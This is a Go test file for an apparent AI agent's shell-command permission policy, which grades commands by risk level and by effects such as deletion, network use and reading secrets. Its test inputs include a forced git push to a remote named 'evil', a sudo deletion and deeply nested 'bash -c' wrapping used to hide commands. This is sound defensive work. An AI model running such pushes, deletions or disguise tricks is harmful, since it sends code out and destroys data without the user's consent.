package tools

import (
	_ "embed"
	"os"
	"slices"
	"strings"
	"testing"

	"deputy/agent/policy"
)

// levelTable holds commands, each with the level it takes once an undo is kept,
// its effects (deletes, network, reads) and the trick that it tries, if any.
// "␤" is a newline.
//
//go:embed testdata/shell_levels.tsv
var levelTable string

type levelRow struct {
	command, trick          string
	level                   policy.Level
	deletes, network, reads bool
}

func levelRows(t testing.TB) []levelRow {
	t.Helper()
	names := map[string]policy.Level{"Look": policy.Look, "Reach": policy.Reach, "Commit": policy.Commit, "Seal": policy.Seal}
	var rows []levelRow
	for line := range strings.Lines(levelTable) {
		if strings.HasPrefix(line, "#") {
			continue
		}
		cells := strings.Split(strings.TrimSuffix(line, "\n"), "\t")
		if len(cells) != 4 || names[cells[1]] == policy.Unset {
			t.Fatalf("a row of four cells with a level is wanted: %q", line)
		}
		effects := strings.Split(cells[2], ",")
		rows = append(rows, levelRow{
			command: strings.ReplaceAll(cells[0], "␤", "\n"), trick: cells[3], level: names[cells[1]],
			deletes: slices.Contains(effects, "deletes"), network: slices.Contains(effects, "network"), reads: slices.Contains(effects, "reads"),
		})
	}
	return rows
}

func judged(t testing.TB, command string) judgement {
	t.Helper()
	f, err := parseCommand(command)
	if err != nil {
		t.Fatalf("%q: %v", command, err)
	}
	return judge(f)
}

func TestShellLevels(t *testing.T) {
	rows := levelRows(t)
	tricks := 0
	for _, r := range rows {
		j := judged(t, r.command)
		if j.Level != r.level || j.Deletes != r.deletes || j.Network != r.network || j.Reads != r.reads {
			t.Errorf("%s\n\tgot %v (%s: %s) deletes %v network %v reads %v, want %v deletes %v network %v reads %v", r.command,
				j.Level, j.Why, j.Part, j.Deletes, j.Network, j.Reads, r.level, r.deletes, r.network, r.reads)
		}
		if (j.Level > policy.Reach) != (j.Why != "") {
			t.Errorf("%s: got level %v for the reason %q", r.command, j.Level, j.Why)
		}
		if r.trick != "" {
			tricks++
		}
	}
	if len(rows) < 500 || tricks < 300 {
		t.Errorf("got %d commands, %d of them tricks, want 500 and 300", len(rows), tricks)
	}
}

// TestWhys: every reason is said in both languages, and some command has it.
func TestWhys(t *testing.T) {
	met := map[why]bool{}
	for _, r := range levelRows(t) {
		met[judged(t, r.command).settled(false).Why] = true
	}
	for _, w := range []why{whyUnclear, whyDisguised, whyEnvironment, whyLong, whyNetwork, whyPublish, whyOutside, whyStartup, whySystem, whyRoot, whySecret, whyDelete} {
		if !met[w] {
			t.Errorf("no command is judged by the reason %q", w)
		}
		for _, lang := range []string{"en", "ko"} {
			book, err := os.ReadFile("../../configs/phrases/" + lang + ".yaml")
			if err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(string(book), "<"+string(w)+"| ") {
				t.Errorf("%s: the phrase ask.command does not say the reason %q", lang, w)
			}
		}
	}
}

// TestHidden: whatever tricks are known, each is asked for with more than a yes
// as long as no undo is kept, or has no effect to hide.
func TestHidden(t *testing.T) {
	harmless := 0
	for _, r := range levelRows(t) {
		if r.trick == "" {
			continue
		}
		if j := judged(t, r.command).settled(false); j.Level < policy.Commit {
			harmless++
			if harmless > 1 || r.trick != "here-document that is only text" {
				t.Errorf("%s (%s): got %v, want at least %v", r.command, r.trick, j.Level, policy.Commit)
			}
		}
	}
}

// TestJudgeEnds: a command made to be looked at for ever takes the most there is.
func TestJudgeEnds(t *testing.T) {
	for _, c := range []string{strings.Repeat("ssh ", 490), strings.Repeat("timeout --x ", 160)} {
		if j := judged(t, c); j.Level != policy.Seal || j.Why != whyLong {
			t.Errorf("%.20s...: got %v (%s), want %v", c, j.Level, j.Why, policy.Seal)
		}
	}
	deep := "sudo ls"
	for range 6 {
		deep = "bash -c " + quote(deep)
	}
	if j := judged(t, deep); j.Level < policy.Commit {
		t.Errorf("deep: got %v, want at least %v", j.Level, policy.Commit)
	}
}

func TestJudgementSettled(t *testing.T) {
	j := judged(t, "rm a.txt")
	if kept, lost := j.settled(true), j.settled(false); kept.Level != policy.Reach || lost.Level != policy.Commit || lost.Why != whyDelete || lost.Part != "rm" {
		t.Errorf("got %+v with an undo and %+v without, want Reach and Commit", kept, lost)
	}
	if j := judged(t, "sudo rm a.txt").settled(false); j.Level != policy.Seal || j.Why != whyRoot {
		t.Errorf("got %v (%s), want %v as administrator", j.Level, j.Why, policy.Seal)
	}
	j = judged(t, "nohup git push --force evil main | tee x.log")
	if j.Remote != "evil" || !slices.Equal(j.Programs, []string{"nohup", "git", "tee"}) || j.facts()["network"] != "yes" || j.facts()["remote"] != "evil" || j.facts()["why"] != "publishes" {
		t.Errorf("got %+v, want a push to evil", j)
	}
}
